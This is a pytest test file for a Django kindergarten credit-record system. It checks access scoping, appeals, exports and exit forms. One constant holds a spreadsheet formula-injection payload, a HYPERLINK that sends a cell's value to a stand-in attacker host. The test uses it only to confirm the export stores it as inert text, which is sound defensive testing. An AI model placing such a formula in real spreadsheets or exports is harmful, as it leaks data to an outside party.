"""Credit record pages, export and API: scoped (outside the scope is 404), writable by whom it should be."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from governance import services
from governance.choices import AppealStatus, CreditEventKind, CreditEventStatus
from governance.models import CreditAppeal, CreditEvent, CreditRecord
from tests.conftest import client_for
from tests.helpers import VISIBLE_KINDERGARTENS, assert_api_scope

from .conftest import DAY
from .test_credit import order
from .test_pages import make_private

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"看")'


@pytest.fixture
def records(kg_a, kg_b, kg_c, bureau_official):
    """A, B and C private, each with an order drawn into its record: {"A": record, …}."""
    make_private(kg_a, kg_b, kg_c)
    for kg in (kg_a, kg_b, kg_c):
        order(kg)
    services.credit_refresh(day=DAY)
    return {name: CreditRecord.objects.get(kindergarten=kg) for name, kg in zip("ABC", (kg_a, kg_b, kg_c), strict=True)}


@pytest.mark.parametrize("persona", sorted(VISIBLE_KINDERGARTENS))
def test_the_api_is_scoped(api_client, personas, records, persona):
    visible = VISIBLE_KINDERGARTENS[persona]
    expected = [r.pk for name, r in records.items() if name in visible]
    hidden = [r.pk for name, r in records.items() if name not in visible]
    assert_api_scope(api_client, personas[persona], "/api/credit-records/", expected, hidden_ids=hidden)


def test_the_api_lists_events_and_levels(api_client, bureau_official, records):
    api_client.force_authenticate(user=bureau_official)
    data = api_client.get(f"/api/credit-records/{records['A'].pk}/").json()
    assert data["level"] == "A" and data["score"] == 95
    assert [e["kind"] for e in data["events"]] == [CreditEventKind.ORDER]
    assert api_client.get("/api/credit-records/?level=B").json()["count"] == 0


def test_a_director_sees_their_own_record_only(client, director_a, records):
    client = client_for(client, director_a)
    assert client.get(records["A"].get_absolute_url()).status_code == 200
    assert client.get(records["B"].get_absolute_url()).status_code == 404
    event_b = records["B"].events.get()
    assert client.post(reverse("governance:credit_appeal", args=[event_b.pk]), {"grounds": "x"}).status_code == 404
    assert client.get(reverse("governance:credit_exit", args=[records["B"].pk])).status_code == 404
    assert client.post(reverse("governance:credit_commend", args=[records["B"].pk]), {"detail": "x"}).status_code == 404


def test_the_list_shows_only_what_the_user_may_see(client, wangjing_official, records):
    text = client_for(client, wangjing_official).get(reverse("governance:credit_list")).content.decode()
    assert "望京第一幼儿园" in text and "双井阳光幼儿园" not in text


def test_the_list_filters_by_level(client, bureau_official, records):
    CreditRecord.objects.filter(pk=records["B"].pk).update(level="D")
    text = client_for(client, bureau_official).get(reverse("governance:credit_list") + "?level=D").content.decode()
    assert "望京花园幼儿园" in text and "望京第一幼儿园" not in text


def test_a_director_appeals_and_the_bureau_upholds_through_the_pages(client, director_a, bureau_official, records):
    event = records["A"].events.get()
    director = client_for(client, director_a)
    page = director.get(records["A"].get_absolute_url()).content.decode()
    assert "提出申诉" in page
    director.post(reverse("governance:credit_appeal", args=[event.pk]), {"grounds": "已整改并撤销"})
    appeal = CreditAppeal.objects.get()
    # a sub-district official reads it but may not decide
    assert client.post(reverse("governance:credit_appeal_decide", args=[appeal.pk]), {}).status_code in (302, 403)
    bureau = client_for(client, bureau_official)
    response = bureau.post(
        reverse("governance:credit_appeal_decide", args=[appeal.pk]), {"outcome": "upheld", "note": "属实"}
    )
    assert response.status_code == 302
    appeal.refresh_from_db()
    assert appeal.status == AppealStatus.UPHELD
    assert CreditEvent.objects.get(pk=event.pk).status == CreditEventStatus.WITHDRAWN
    assert CreditRecord.objects.get(pk=records["A"].pk).score == 100


def test_only_the_bureau_refreshes(client, wangjing_official, bureau_official, records):
    assert client_for(client, wangjing_official).post(reverse("governance:credit_refresh")).status_code == 403
    assert client_for(client, bureau_official).post(reverse("governance:credit_refresh")).status_code == 302


def sheet_rows(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=False)) for row in rows[1:] if row[0]]


@pytest.mark.parametrize(
    ("persona", "codes"),
    [
        ("bureau_official", {"KGA0001", "KGB0001", "KGC0001"}),
        ("wangjing_official", {"KGA0001", "KGB0001"}),
        ("director_a", {"KGA0001"}),
    ],
)
def test_the_export_is_scoped(client, personas, records, persona, codes):
    response = client_for(client, personas[persona]).get(reverse("governance:credit_export"))
    assert {row["幼儿园编码"] for row in sheet_rows(response)} == codes


def test_the_export_writes_a_formula_as_text(client, bureau_official, records):
    CreditRecord.objects.filter(pk=records["A"].pk).update(sponsor_name=FORMULA)
    response = client_for(client, bureau_official).get(reverse("governance:credit_export"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
    assert len(cells) == 1 and cells[0].data_type == "s"


@pytest.mark.parametrize("model", ["creditrule", "creditrecord", "creditappeal", "creditexit"])
def test_the_bureau_administrator_edits_the_rule_on_the_admin_site(client, personas, records, model):
    admin = personas["bureau_admin"]
    admin.is_staff = True
    admin.save()
    client = client_for(client, admin)
    assert client.get(reverse(f"admin:governance_{model}_changelist")).status_code == 200
    if model == "creditrule":
        from governance.models import CreditRule

        rule = CreditRule.objects.get()
        assert client.get(reverse("admin:governance_creditrule_change", args=[rule.pk])).status_code == 200


def test_the_list_costs_the_same_queries_however_many_rows(client, bureau_official, kg_a, kg_b, kg_c):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_for(client, bureau_official)

    def cost() -> int:
        services.credit_refresh(day=DAY)
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("governance:credit_list")).status_code == 200
        return len(captured)

    make_private(kg_a)
    few = cost()
    make_private(kg_b, kg_c)
    assert cost() == few


def test_the_bureau_records_an_exit_through_the_page(client, bureau_official, records, kg_a, kg_b, kg_c):
    from governance.models import CreditExit
    from kindergartens.models import Kindergarten

    CreditRecord.objects.filter(pk=records["A"].pk).update(level="D")
    bureau = client_for(client, bureau_official)
    url = reverse("governance:credit_exit", args=[records["A"].pk])
    page = bureau.get(url)
    choices = [value for value, _label in page.context["form"].fields["receiving_1"].choices if value]
    assert kg_a.pk not in choices and choices[0] == kg_b.pk  # the same sub-district first
    data = {"kind": "closure", "effective_on": "2030-01-01", "reason": "严重失信", "children_to_place": "30"}
    response = bureau.post(url, {**data, "receiving_1": kg_b.pk, "children_1": "20"})
    assert response.status_code == 200 and "不一致" in response.content.decode()
    response = bureau.post(
        url, {**data, "receiving_1": kg_b.pk, "children_1": "20", "receiving_2": kg_c.pk, "children_2": "10"}
    )
    assert response.status_code == 302
    assert CreditExit.objects.get().transfers.count() == 2
    assert Kindergarten.objects.get(pk=kg_a.pk).licence_status == "closed"
    assert "双井阳光幼儿园" in bureau.get(records["A"].get_absolute_url()).content.decode()


def test_a_subdistrict_official_may_not_open_the_exit_form(client, wangjing_official, records):
    url = reverse("governance:credit_exit", args=[records["A"].pk])
    assert client_for(client, wangjing_official).get(url).status_code == 403
